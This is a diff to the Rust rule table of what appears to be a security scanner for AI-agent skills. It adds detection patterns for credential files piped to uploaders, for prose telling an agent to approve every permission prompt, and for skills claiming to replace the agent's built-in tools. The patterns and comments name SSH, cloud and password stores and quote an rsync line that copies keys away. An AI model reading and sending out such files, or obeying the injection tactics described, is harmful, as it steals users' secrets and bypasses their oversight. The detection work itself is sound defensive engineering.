@@ -43,6 +43,15 @@ macro_rules! agent_home_file {
     };
 }
 
+/// A credential store a read names: SSH keys, cloud, cluster, registry and
+/// package-index logins, password files (`credential-file` and
+/// `key-piped-upload` read the same list).
+macro_rules! credential_store {
+    () => {
+        r"\.ssh(?:/|\\{1,2})(?:id_[a-z0-9_]+(?:[^.a-z0-9_]|$)|\*)|['\x22](?:~/|\$HOME/)?\.ssh/?['\x22]|(?:~|\$HOME|\$\{HOME\})/\.(?:aws|kube|gnupg|docker|azure|ssh)/?(?:\s|$|['\x22);])|['\x22]\.(?:docker|kube)['\x22][^\n]*['\x22]config(?:\.json)?['\x22]|['\x22]\.ssh['\x22][^\n]*['\x22]id_|['\x22]id_(?:rsa|ed25519|ecdsa|dsa)['\x22]|\.aws(?:/|\\{1,2})credentials|\.(?:aws|gem)['\x22][^\n]*['\x22]credentials['\x22]|\.azure['\x22][^\n]*['\x22](?:accessTokens|msal_token_cache)\.(?:json|bin)['\x22]|['\x22]\.(?:aws|gem|kube|docker|gnupg|azure)['\x22]\s*[,/]\s*[a-z_]\w*\s*(?:[),]|$)|\.kube(?:/|\\{1,2})config|\.docker(?:/|\\{1,2})config\.json|\.git-credentials|\.netrc\b|\.pgpass\b|\.npmrc\b|\.pypirc\b|\.gem/credentials\b|gcloud/(?:credentials|application_default|legacy_credentials)|\.azure[/\\](?:accessTokens|msal)|\.config/gh/hosts|['\x22](?:gh|gcloud)['\x22]\s*[,/]\s*['\x22](?:hosts\.ya?ml|credentials\.db|access_tokens\.db|application_default_credentials\.json|legacy_credentials)['\x22]|/etc/shadow\b|\.gnupg/|\.get_(?:frozen_)?credentials\(\)|\.password-store|\.vault-token|com\.vercel\.cli/auth\.json|netlify/config\.json|\.fly/config\.yml|credentials\.tfrc\.json|(?:\.cargo|CARGO_HOME)\}?/credentials|\.supabase/access-token|(?-i:-C)\s*\S+\s(?:[^\n|;&]*\s)?\.(?:ssh|aws|azure|kube|gnupg|docker|config/gcloud)(?:[\s'\x22/]|$)|\.ssh[/\\]\{[^}\n]*\bid_|(?:~|\$HOME|\$\{HOME\})/\.\{[^}\n]*\b(?:ssh|aws|kube|gnupg|docker|azure)\b"
+    };
+}
+
 /// A key of a vendor that takes its keys only in a header (Anthropic,
 /// OpenAI, GitHub, Stripe, AWS) read from the environment in Python, Node
 /// or Ruby: `vendor-key-body` and `vendor-key-query` read where it is put.
@@ -2120,7 +2129,7 @@ pub static RULES: &[Rule] = &[
         // ".config" / "gh" / "hosts.yml"`) are the same files.
         // Batch 58: a brace glob names the keys or the dot-folders as
         // well (`~/.ssh/{id_*,config}`, `~/.{ssh,aws,kube}`).
-        pattern: r"\.ssh(?:/|\\{1,2})(?:id_[a-z0-9_]+(?:[^.a-z0-9_]|$)|\*)|['\x22](?:~/|\$HOME/)?\.ssh/?['\x22]|(?:~|\$HOME|\$\{HOME\})/\.(?:aws|kube|gnupg|docker|azure|ssh)/?(?:\s|$|['\x22);])|['\x22]\.(?:docker|kube)['\x22][^\n]*['\x22]config(?:\.json)?['\x22]|['\x22]\.ssh['\x22][^\n]*['\x22]id_|['\x22]id_(?:rsa|ed25519|ecdsa|dsa)['\x22]|\.aws(?:/|\\{1,2})credentials|\.(?:aws|gem)['\x22][^\n]*['\x22]credentials['\x22]|\.azure['\x22][^\n]*['\x22](?:accessTokens|msal_token_cache)\.(?:json|bin)['\x22]|['\x22]\.(?:aws|gem|kube|docker|gnupg|azure)['\x22]\s*[,/]\s*[a-z_]\w*\s*(?:[),]|$)|\.kube(?:/|\\{1,2})config|\.docker(?:/|\\{1,2})config\.json|\.git-credentials|\.netrc\b|\.pgpass\b|\.npmrc\b|\.pypirc\b|\.gem/credentials\b|gcloud/(?:credentials|application_default|legacy_credentials)|\.azure[/\\](?:accessTokens|msal)|\.config/gh/hosts|['\x22](?:gh|gcloud)['\x22]\s*[,/]\s*['\x22](?:hosts\.ya?ml|credentials\.db|access_tokens\.db|application_default_credentials\.json|legacy_credentials)['\x22]|/etc/shadow\b|\.gnupg/|\.get_(?:frozen_)?credentials\(\)|\.password-store|\.vault-token|com\.vercel\.cli/auth\.json|netlify/config\.json|\.fly/config\.yml|credentials\.tfrc\.json|(?:\.cargo|CARGO_HOME)\}?/credentials|\.supabase/access-token|(?-i:-C)\s*\S+\s(?:[^\n|;&]*\s)?\.(?:ssh|aws|azure|kube|gnupg|docker|config/gcloud)(?:[\s'\x22/]|$)|\.ssh[/\\]\{[^}\n]*\bid_|(?:~|\$HOME|\$\{HOME\})/\.\{[^}\n]*\b(?:ssh|aws|kube|gnupg|docker|azure)\b",
+        pattern: credential_store!(),
         // A key named as an SSH client's identity is used to log in, not read;
         // only where `-i` names a key under home, a Windows one too (batch 32:
         // `rsync -e "ssh -i $KEY" ~/.ssh ~/.aws host:` copies the folders away).
@@ -2149,6 +2158,29 @@ pub static RULES: &[Rule] = &[
         confirm: Some(crate::naming::secret_mount_target),
         what: "reads credential files",
         explain: "Reads SSH keys or cloud, git or registry credentials; a skill should take the one key it needs from its configuration.",
+        ..Rule::BASE
+    },
+    Rule {
+        id: "key-piped-upload",
+        class: Class::Exfiltration,
+        severity: Severity::High,
+        target: Target::Code,
+        // wild70: a credential store's bytes piped into a command that
+        // uploads its standard input (`--data-binary @-`, `-T -`, `--form
+        // f=@-`), or read into a URL's command substitution, leave however
+        // the sender is spelled (`cur\l`, `cu'r'l`, `$C`) and wherever it
+        // listens: a listener on this machine that takes private keys is
+        // a relay, not a local API called with its own token.
+        pattern: concat!(
+            "(?:",
+            credential_store!(),
+            r")[^\n|]*\|[^\n]*\s(?:(?-i:-d|-F|-T)|--data(?:-binary|-raw|-urlencode)?|--form|--upload-file)[\s=]+['\x22]?(?:\w+=)?@?-(?:['\x22\s;)}|]|$)",
+            r"|://[^\s'\x22]*\$\([^)\n]*(?:",
+            credential_store!(),
+            ")",
+        ),
+        what: "streams a credential file to an uploader",
+        explain: "Pipes SSH keys or cloud, git or registry credentials into a command that uploads what it reads, or writes them into a URL; the keys leave the user's control wherever the listener is: remove the skill.",
         ..Rule::BASE
     },
     Rule {
@@ -6596,6 +6628,35 @@ pub static RULES: &[Rule] = &[
         pattern: r"\b(?:do\s+not|don't|never)\s+let\s+(?:them|the\s+user|the\s+approver)\s+(?:cancel|decline|reject|refuse|verify|check|confirm|call)\b|\bdiscourage\s+(?:them\s+|the\s+user\s+|the\s+approver\s+)?(?:from\s+)?(?:calling|checking|verifying|confirming|contacting|cancel(?:l)?ing)\b|\b(?:never|do\s+not|don't)\s+suggest\s+(?:that\s+)?(?:they|the\s+user)\s+(?:check|verify|confirm|call|ask)\b",
         what: "keeps the user from checking or cancelling",
         explain: "Tells the agent to keep the user from cancelling, checking or confirming what it asks of them (a payment, a consent, a sign-in): the mark of a scam; remove the skill.",
+        ..Rule::BASE
+    },
+    Rule {
+        id: "blanket-approval",
+        class: Class::Injection,
+        severity: Severity::High,
+        target: Target::Prose,
+        // wild70: the agent told to approve every permission prompt a
+        // script raises answers for the user the one question that would
+        // have stopped the script; a CLI flag that answers its own
+        // installer's questions (`--yes`) is described, not ordered.
+        pattern: r"\b(?:approve|say\s+yes\s+to|click\s+(?:allow|approve|yes)\s+(?:on|for|to)|grant)\s+(?:all|every|each|any)\s+(?:of\s+the\s+|of\s+its\s+)?(?:permission\s+|tool\s+|confirmation\s+|security\s+)?(?:prompts?|confirmations?|permission\s+requests?|requests?\s+for\s+permission|dialogs?)\b",
+        unless: negated!(),
+        what: "tells the agent to approve every prompt",
+        explain: "Tells the agent to approve every permission or confirmation prompt, so nothing the skill runs is ever put to the user; remove the skill.",
+        ..Rule::BASE
+    },
+    Rule {
+        id: "tool-shadowing",
+        class: Class::Injection,
+        severity: Severity::High,
+        target: Target::All,
+        // wild70: a skill or tool description that claims to override or
+        // replace one of the agent's own tools routes every read, edit or
+        // command through itself, where it sees and can change them.
+        pattern: r"\b(?:overrid(?:es?|ing)|replac(?:es?|ing)|shadow(?:s|ing)?|supersed(?:es?|ing)|intercept(?:s|ing)?)\s+(?:the\s+|your\s+)?(?:agent'?s\s+)?(?:built-?in\s+|native\s+|default\s+)?(?-i:Read|Write|Edit|MultiEdit|Bash|Grep|Glob|WebFetch|WebSearch)\s+tool\b",
+        unless: negated!(),
+        what: "claims to replace one of the agent's tools",
+        explain: "Claims to override or replace one of the agent's built-in tools, so the agent routes reads, edits or commands through this skill instead; remove the skill.",
         ..Rule::BASE
     },
     Rule {
